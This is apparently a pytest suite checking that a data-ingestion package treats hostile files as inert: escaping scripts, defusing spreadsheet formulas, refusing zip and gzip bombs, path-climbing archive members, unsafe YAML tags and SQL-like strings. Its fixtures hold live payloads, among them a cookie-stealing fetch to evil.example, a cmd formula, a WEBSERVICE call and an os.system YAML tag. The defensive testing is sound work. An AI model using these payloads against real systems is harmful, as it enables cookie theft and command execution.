"""Hostile files do nothing: what they hold is text, what would run is refused, what would fill the disk is not unpacked."""

import ast
import datetime as dt
import gzip
import io
import json
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import cx_helpers
from cx_helpers.config.sources import Source
from cx_helpers.errors import ConfigError, DataError
from cx_helpers.ingest.readers import containers, file_hash
from cx_helpers.ingest.staging import stage
from cx_helpers.reports.sentences import Sentences
from cx_helpers.reports.tables import csv_text

PACKAGE = Path(cx_helpers.__file__).parent
SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>'


def staged(path, **settings):
    return stage(path, Source(file=path.name, **settings), path.name, path.parent / ".parsed", file_hash(path))


def first(path, **settings):
    return pq.read_table(staged(path, **settings).path).to_pylist()[0]


def write(tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return path


def archive(members, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as file:
        for name, data in members.items():
            file.writestr(name, data)
    return out.getvalue()


def test_a_script_in_a_cell_is_read_as_text_and_shown_as_text(tmp_path):
    from cx_helpers.reports.cells import escape

    cell = first(write(tmp_path, "a.csv", "id,comment\n1,'{}'\n".format(SCRIPT.replace('"', "'"))))["comment"]
    assert "<script>" in cell and "<" not in escape(cell) and "&lt;script&gt;" in escape(cell)


def test_a_script_in_a_cell_that_reaches_a_page_is_escaped_in_its_table(shop):
    """A place's name is what a page shows of a raw cell."""
    from cx_helpers.reports.cells import Column
    from cx_helpers.reports.tables import table_html

    shop.write("raw/orders.csv", (shop.raw / "orders.csv").read_text().replace("Soho", '"{}"'.format(SCRIPT.replace('"', '""'))))
    shop.ingest()
    files = (shop.folder / "tables" / "journeys").rglob("*.parquet")
    units = sorted({unit for file in files for unit in pq.ParquetFile(file).read(["unit"])["unit"].to_pylist()})
    assert SCRIPT in units
    page = table_html(pd.DataFrame({"label": units, "n": [10] * len(units)}), [Column("label", "head", title="driver")], Sentences("en"), "t", SCRIPT)
    assert "<script" not in page and "<img" not in page and "&lt;script&gt;" in page


@pytest.mark.parametrize("cell", ["=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_a_formula_in_a_cell_is_text_when_read_and_defused_when_exported(tmp_path, cell):
    read = first(write(tmp_path, "a.csv", 'id,place\n1,"{}"\n'.format(cell)))["place"]
    assert read == cell
    line = csv_text(pd.DataFrame({"label": [read], "value": [-2.5], "n": [12]})).splitlines()[1:]
    assert "".join(line).lstrip('"').startswith("'") and "".join(line).endswith(",-2.5,12")


def test_a_formula_in_a_workbook_is_its_last_value_or_nothing_and_is_not_computed(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["id", "place", "n"])
    book.active.append(["=1+1", '=WEBSERVICE("http://evil.example/"&A2)', 3])
    book.active.append(["x", "'=1+1", dt.date(2026, 3, 1)])
    book.save(tmp_path / "a.xlsx")
    rows = pq.read_table(staged(tmp_path / "a.xlsx").path).to_pylist()
    assert rows[0] == {"id": None, "place": None, "n": "3", "_row": 1} and rows[1]["place"] == "'=1+1"


def test_a_gzip_bomb_is_not_unpacked(tmp_path, monkeypatch):
    monkeypatch.setattr(containers, "FREE_BYTES", 1 << 20)
    path = write(tmp_path, "a.csv.gz", gzip.compress(b"id,n\n" + b"0" * (20 << 20)))
    with pytest.raises(DataError, match=r"^a.csv.gz: [\d,]+ bytes unpack to [\d,]+ or more, over 200 times as many. It is not unpacked"):
        staged(path)
    assert not any((tmp_path / ".parsed").iterdir())


def test_a_zip_bomb_is_not_unpacked_whatever_size_it_claims(tmp_path, monkeypatch):
    monkeypatch.setattr(containers, "FREE_BYTES", 1 << 20)
    data = archive({"a.csv": b"id,n\n" + b"0" * (20 << 20)})
    with pytest.raises(DataError, match=r"^a.zip: .* over 200 times as many. It is not unpacked"):
        staged(write(tmp_path, "a.zip", data))
    size = struct.pack("<I", (20 << 20) + 5)
    assert data.count(size) == 2
    with pytest.raises(DataError, match=r"^b.zip: (.* over 200 times as many|a damaged or cut-off archive)"):
        staged(write(tmp_path, "b.zip", data.replace(size, struct.pack("<I", 500))))


def test_the_ratio_is_not_asked_of_honest_exports(tmp_path, monkeypatch):
    monkeypatch.setattr(containers, "FREE_BYTES", 1 << 16)
    text = "id,text\n" + "".join(f"{row},the counter was slow {zlib.crc32(str(row).encode())}\n" for row in range(20_000))
    assert staged(write(tmp_path, "a.zip", archive({"month/a.csv": text, "__MACOSX/._a.csv": b"x"}))).rows == 20_000
    assert staged(write(tmp_path, "a.csv.gz", gzip.compress(text.encode()))).rows == 20_000


@pytest.mark.parametrize("name", ["../../outside.csv", "/etc/outside.csv", "a/../../outside.csv", "..\\..\\outside.csv", "C:\\outside.csv"])
def test_a_member_whose_name_climbs_is_refused_and_nothing_is_written(tmp_path, name):
    inner = tmp_path / "deep" / "raw"
    inner.mkdir(parents=True)
    with pytest.raises(DataError, match=r"^a.zip: its member .* climbs out of the archive. It is not read; export it again.$"):
        staged(write(inner, "a.zip", archive({name: "id,n\n1,2\n"})))
    assert not list(tmp_path.rglob("outside.csv"))


HONEST = b"id,n\n1,2\n"
REFUSED = {
    "an archive in an archive by name": ("a.zip", lambda: archive({"b.zip": archive({"a.csv": HONEST})}), r"^a.zip: an archive inside an archive. Unpack it"),
    "an archive in an archive by content": ("a.zip", lambda: archive({"b.csv": gzip.compress(HONEST)}), r"^a.zip: an archive inside an archive. Unpack it"),
    "gzip in gzip": ("a.csv.gz", lambda: gzip.compress(gzip.compress(HONEST)), r"^a.csv.gz: an archive inside an archive. Unpack it"),
    "two members": ("a.zip", lambda: archive({"a.csv": HONEST, "b.csv": HONEST}), r"^a.zip: 2 files in the archive \(a.csv, b.csv\). Name one as member"),
    "no member": ("a.zip", lambda: archive({}), r"^a.zip: 0 files in the archive \(none\). Name one as member"),
    "a gzip file cut off": ("a.csv.gz", lambda: gzip.compress(HONEST * 99)[:-12], r"^a.csv.gz: a damaged or cut-off archive \(.*\). Export it again.$"),
    "a zip file cut off": ("a.zip", lambda: archive({"a.csv": HONEST * 99})[:-30], r"^a.zip: a damaged zip archive. Export it again.$"),
    "a damaged member": ("a.zip", lambda: archive({"a.csv": HONEST * 99}, zipfile.ZIP_STORED).replace(b"1,2", b"1,3", 1), r"^a.zip: a damaged or cut-off archive \(Bad CRC"),
    "no gzip at all": ("a.csv.gz", lambda: HONEST, r"^a.csv.gz: not a gz archive, though its name says so. Export it again.$"),
    "a workbook with a document type": (
        "a.xlsx", lambda: archive({"[Content_Types].xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        r"^a.xlsx: its \[Content_Types\].xml declares a document type, which no workbook does. It is not read.$"),
    "a protected workbook": ("a.xlsx", lambda: containers.OLD_OFFICE + b"\0" * 600, r"^a.xlsx: protected by a password, or an old workbook"),
    "a workbook called CSV": ("a.csv", lambda: archive({"[Content_Types].xml": "<x/>", "xl/workbook.xml": "<x/>"}), r"^a.csv: this is a workbook, not a CSV file. Set reader: excel"),
    "a Parquet file called CSV": ("a.csv", lambda: b"PAR1" + b"\0" * 90, r"^a.csv: this is a Parquet file, not a CSV file. Set reader: parquet in sources.yaml"),
    "a PDF called CSV": ("a.csv", lambda: b"%PDF-1.7 ...", r"^a.csv: this is a PDF, not a CSV file. Export it as CSV.$"),
    "a log-in page called a workbook": ("a.xlsx", lambda: b"<!DOCTYPE html><title>Log in</title>", r"^a.xlsx: this is an HTML page, not a Excel file|^a.xlsx: this is an HTML page"),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_what_is_packed_or_named_wrongly_is_one_line(tmp_path, name):
    file, data, said = REFUSED[name]
    with pytest.raises(DataError, match=said) as caught:
        staged(write(tmp_path, file, data()))
    assert "\n" not in str(caught.value) and not any((tmp_path / ".parsed").glob("*.part*"))


def test_the_member_named_is_read(tmp_path):
    path = write(tmp_path, "a.zip", archive({"a.csv": HONEST, "b/tickets.jsonl": '{"id": 7}\n'}))
    assert first(path, member="b/tickets.jsonl") == {"id": "7", "_row": 1} and first(path, member="a.csv")["n"] == "2"
    with pytest.raises(DataError, match=r"^a.zip: no member 'c.csv'; it has a.csv, b/tickets.jsonl. Mend member in sources.yaml.$"):
        staged(path, member="c.csv")


def test_one_cell_at_the_far_corner_of_a_sheet_does_not_fill_memory(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["id", "n"])
    book.active.cell(1_000_000, 16_000, "x")
    book.save(tmp_path / "a.xlsx")
    with pytest.raises(DataError, match=r"^a.xlsx: sheet 'Sheet' spans over 50,000,000 cells. Save only the table, or as CSV.$"):
        staged(tmp_path / "a.xlsx")


@pytest.mark.parametrize("tag", ["!!python/object/apply:os.system ['touch {}']", "!!python/name:os.system", "!!python/object/new:os.system [x]"])
def test_yaml_that_would_make_objects_is_refused_in_one_line(shop, tmp_path, tag):
    made = tmp_path / "made"
    shop.change("sources.yaml", "sources:\n", "raw: {}\nsources:\n".format(tag.format(made)))
    with pytest.raises(ConfigError) as caught:
        shop.load()
    assert all(problem.startswith("shop/sources.yaml:") and "\n" not in problem for problem in caught.value.problems) and not made.exists()


def test_yaml_whose_aliases_explode_is_refused(shop):
    layers = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12))
    shop.write("sources.yaml", layers + (shop.folder / "sources.yaml").read_text())
    with pytest.raises(ConfigError) as caught:
        shop.load()
    assert "shop/sources.yaml" in caught.value.problems[0]


def test_nothing_is_unpickled_and_no_yaml_is_loaded_unsafely():
    """By the syntax of every module: no pickle, no marshal, no shelve, no eval, no exec, no unsafe loader."""
    wrong = []
    for path in sorted(PACKAGE.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            wrong += [f"{path.name}: imports {name}" for name in names if name.split(".")[0] in ("pickle", "cloudpickle", "dill", "marshal", "shelve", "joblib", "yaml")]
            if isinstance(node, ast.Call):
                called = node.func.id if isinstance(node.func, ast.Name) else getattr(node.func, "attr", "")
                loader = [word.value.value for word in node.keywords if word.arg == "typ" and isinstance(word.value, ast.Constant)]
                wrong += [f"{path.name}: {called}"] if called in ("read_pickle", "unsafe_load", "full_load") or "unsafe" in loader else []
                wrong += [f"{path.name}: {called}"] if isinstance(node.func, ast.Name) and called in ("eval", "exec", "compile", "__import__") else []
    assert wrong == []


def test_metadata_of_a_parquet_file_is_never_acted_on(tmp_path):
    """pandas and Arrow metadata may name types to make; only cells are read."""
    table = pa.table({"id": ["1"]}).replace_schema_metadata({
        b"pandas": json.dumps({"index_columns": ["gone"], "columns": [{"name": "id", "numpy_type": "os.system", "metadata": None}]}).encode(),
        b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": b"cos\nsystem\n(S'true'\ntR.",
    })  # fmt: skip
    pq.write_table(table, tmp_path / "a.parquet")
    assert first(tmp_path / "a.parquet") == {"id": "1", "_row": 1}


def test_a_zone_or_a_name_in_a_file_is_never_taken_for_sql(tmp_path):
    ids = json.dumps({"ImportId": "d", "timeZone": "UTC'); DROP TABLE x; --"}).replace('"', '""')
    path = write(tmp_path, "q.csv", f'"a"" FROM x; --",b\nwhen,what\n"{ids}","{{""ImportId"":""b""}}"\n2026-03-01 10:00,n/a\n')
    assert first(path, reader="qualtrics") == {'a" FROM x; --': "2026-03-01 10:00", "b": "n/a", "_row": 1}
